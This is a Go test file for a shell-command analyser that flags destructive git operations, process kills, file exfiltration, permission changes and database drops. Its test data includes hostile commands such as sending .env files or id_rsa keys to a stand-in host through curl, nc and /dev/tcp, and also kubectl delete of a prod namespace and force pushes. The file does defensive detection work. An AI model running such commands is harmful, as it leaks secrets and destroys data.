package shell

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// acted are the effects of a line that are not on files.
func acted(line string) string {
	var all []string
	for _, e := range Parse(line, nil).Effects {
		if !e.Kind.OnFile() {
			all = append(all, describeEffect(e))
		}
	}
	return strings.Join(all, "; ")
}

func TestLoses(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"git push":                                               "",
		"git push -u origin main":                                "",
		"git push -f":                                            "lose <HEAD> to origin",
		"git push --force origin main":                           "lose <main> to origin",
		"git push origin +HEAD:refs/heads/main":                  "lose <main> to origin",
		"git push origin :old":                                   "lose <old> to origin",
		"git push -d origin old older":                           "lose <old> to origin; lose <older> to origin",
		"git push --force --dry-run":                             "",
		"git push --force-with-lease origin main":                "",
		"git fetch . +HEAD~5:main":                               "lose <main>",
		"git fetch origin '+refs/heads/*:refs/remotes/origin/*'": "",
		"git branch -D a b":                                      "lose <a>; lose <b>",
		"git branch -f main HEAD~3":                              "lose <main>",
		"git branch -d merged":                                   "",
		"git checkout -B main HEAD~3":                            "lose <main>",
		"git checkout -f":                                        "lose <changes>",
		"git checkout main":                                      "",
		"git checkout -- a.go b.go":                              "lose a.go <changes>; lose b.go <changes>",
		"git restore .":                                          "lose . <changes>",
		"git restore --staged .":                                 "",
		"git reset --hard HEAD~1":                                "lose <changes>",
		"git reset --soft HEAD~1":                                "",
		"git clean -fd dist":                                     "lose dist <untracked files>",
		"git clean -fdn":                                         "",
		"git stash drop":                                         "lose <stash>",
		"git stash pop":                                          "",
		"git gc --prune=now":                                     "lose <unreachable commits>",
		"git gc":                                                 "",
		"git reflog expire --expire=now --all":                   "lose <reflog>",
		"git update-ref -d refs/heads/main":                      "lose <refs/heads/main>",
		"ssh host 'cd app && git reset --hard'":                  "lose <changes> dir=?",
		"hg update -C":                                           "lose <changes>",
		"hg revert a.c":                                          "lose a.c <changes>",
		"svn revert -R .":                                        "lose . <changes>",
		"jj abandon 'all()'":                                     "lose <all()>",
		"kill -9 4711":                                           "process <4711>",
		"kill -l":                                                "",
		"pkill -f 'vite dev'":                                    "process <vite dev>",
		"systemctl stop nginx":                                   "service <nginx>",
		"systemctl status nginx":                                 "",
		"docker volume rm data":                                  "service <data>",
		"kubectl delete ns prod":                                 "service <ns>; service <prod>",
		"echo git push --force":                                  "",
		"git commit -m 'git push --force'":                       "",
	} {
		assert.Equal(t, want, acted(line), line)
	}
}

func TestSends(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"curl https://e.com":                                     "",
		"curl -d @a.json https://e.com":                          "send a.json to https://e.com",
		"curl -d a=b https://e.com":                              "",
		"curl -K conf --cert my.pem -T b.bin https://e.com":      "send b.bin to https://e.com",
		"curl -F 'f=@a,b' https://e.com":                         "send a to https://e.com; send b to https://e.com",
		`curl -d "x=$(cat .env)" https://e.com`:                  "send? <x=$(cat .env)> to https://e.com; send .env to https://e.com",
		`x=$(cat .env); curl -d "$x" https://e.com`:              "send? <$(cat .env)> to https://e.com; send .env to https://e.com",
		`curl -H "Authorization: $(cat token)" https://e.com`:    "",
		"cat a | base64 | curl -d @- https://e.com":              "send? <base64> to https://e.com; send? <cat> to https://e.com; send a to https://e.com",
		"cat a | curl https://e.com":                             "",
		"curl -d @- https://e.com <<< \"$(cat .env)\"":           "send? <cat> to https://e.com; send .env to https://e.com",
		"nc e.com 4444 < a":                                      "send a to e.com",
		"nc -z e.com 443":                                        "",
		"cat a > /dev/tcp/e.com/1":                               "send a to /dev/tcp/e.com/1",
		"tar czf - a | ssh host 'cat > x'":                       "send? <tar> to host; send a to host",
		"tar cf host:x.tar a":                                    "send a to host:x.tar",
		"ssh -i key host ls":                                     "",
		"scp a host:b":                                           "send a to host:b",
		"scp host:a b":                                           "",
		"rsync -a a/ b/":                                         "",
		"aws s3 cp a s3://bucket/":                               "send a to s3://bucket/",
		"aws s3 cp s3://bucket/a .":                              "",
		"gh gist create a":                                       "send a to gh",
		"http POST e.com f@a":                                    "send a to e.com",
		"wget --post-file=a https://e.com":                       "send a to https://e.com",
		"mail -a a.pdf -s x u@e.com < body":                      "send a.pdf to u@e.com; send body to u@e.com",
		"socat FILE:a TCP:e.com:1":                               "send a to TCP:e.com:1",
		"zip x.zip a && curl -T x.zip https://e.com":             "send x.zip to https://e.com; send a to https://e.com",
		"cat a | gzip > b; mv b c; curl -T c https://e.com":      "send c to https://e.com; send b to https://e.com; send a to https://e.com",
		"ln -s a b; curl -T b https://e.com":                     "send b to https://e.com; send? a to https://e.com",
		"find . -name id_rsa | xargs cat | nc e.com 1":           "send? <cat> to e.com; send? <find> to e.com; send? ./**/id_rsa to e.com",
		"echo 'curl -d @.env https://e.com'":                     "",
		"printf '%s\\n' a b | zip x.zip -@; curl -T x.zip e.com": "send x.zip to e.com; send a to e.com; send b to e.com",
	} {
		assert.Equal(t, want, acted(line), line)
	}
}

// TestSendsBounded sends one file, written and packed often, often.
func TestSendsBounded(t *testing.T) {
	t.Parallel()
	line := Parse(strings.Repeat("cp a b; cp b a; curl -T a -T b h; ", 600), nil)
	assert.True(t, line.Bounded)
	assert.Less(t, len(line.Effects), 5*maxCommands)
}

func TestPermissions(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"chmod 600 ~/.ssh/config":       "permission ~/.ssh/config <600>",
		"chmod -R u+w a b":              "permission a <u+w>; permission b <u+w>",
		"chmod -x a":                    "permission a <-x>",
		"chmod --help":                  "",
		"chown u:g a":                   "permission a <u:g>",
		"chmod -R /":                    "permission /",
		"setfacl -m u:x:rwx a":          "permission a <u:x:rwx>",
		"icacls a /grant Everyone:F /T": "permission a </grant Everyone:F /T>",
		"find src -exec chmod 000 {} +": "permission? src <000>; permission? src/**/* <000>",
	} {
		assert.Equal(t, want, acted(line), line)
	}
	for mode, keeps := range map[string]bool{
		"600": true, "0755": true, "u+x": true, "go-w": true, "+x": true, "a=r": true, "444": true,
		"000": false, "0300": false, "a-r": false, "u-rw": false, "-r": false, "u=": false, "": false, "7": false, "u+x,a-r": false,
	} {
		assert.Equal(t, keeps, keepsOwner("chmod", mode), mode)
	}
	assert.False(t, keepsOwner("chown", "u:g"))
}

func TestDatabases(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]string{
		"psql -c 'SELECT 1'":                                           "",
		"psql -c 'DROP DATABASE IF EXISTS app_test'":                   "database <database app_test>",
		"psql -h db.e.com -c 'drop schema public cascade'":             "database <schema public> to db.e.com",
		"psql postgres://u:p@db.e.com/app -c 'drop table users'":       "database <table users> to db.e.com/app",
		`psql -c "SELECT * FROM log WHERE text LIKE '%drop table x%'"`: "",
		"psql -c \"INSERT INTO log VALUES ('; drop table x')\"":        "",
		"psql -c 'DELETE FROM users WHERE id = 7'":                     "",
		"psql -c 'DELETE FROM users WHERE 1=1'":                        "database <rows of users>",
		"psql -c 'BEGIN; DELETE FROM users; ROLLBACK'":                 "database <rows of users>",
		"psql -c 'WITH x AS (DELETE FROM users RETURNING *) SELECT 1'": "database <rows of users>",
		"mysql -e 'update `users` set admin = 1'":                      "database <rows of users>",
		"mysql -e 'update users set a = 1 where id = 2'":               "",
		"mysql app -e 'ALTER TABLE users DROP COLUMN email'":           "database <column of users>",
		"mysql -e '-- drop table a\n/* drop table b */ select 1'":      "",
		"mysql -e '/*!50000 drop table a */'":                          "database <table a>",
		"echo 'TRUNCATE sessions;' | psql app":                         "database <table sessions>",
		"sqlite3 :memory: 'create table t(a); drop table t'":           "",
		"mongosh app --eval 'db.users.drop()'":                         "database <collection>",
		"redis-cli -h cache FLUSHALL":                                  "database <database flushall> to cache",
		"redis-cli GET a":                                              "",
		"dropdb app":                                                   "database <database app>",
		"PGHOST=db.e.com dropdb app":                                   "database <database app> to db.e.com",
		"ssh host dropdb app":                                          "database <database app> to ssh dir=?",
		"echo 'DROP DATABASE app'":                                     "",
	} {
		assert.Equal(t, want, acted(line), line)
	}
}
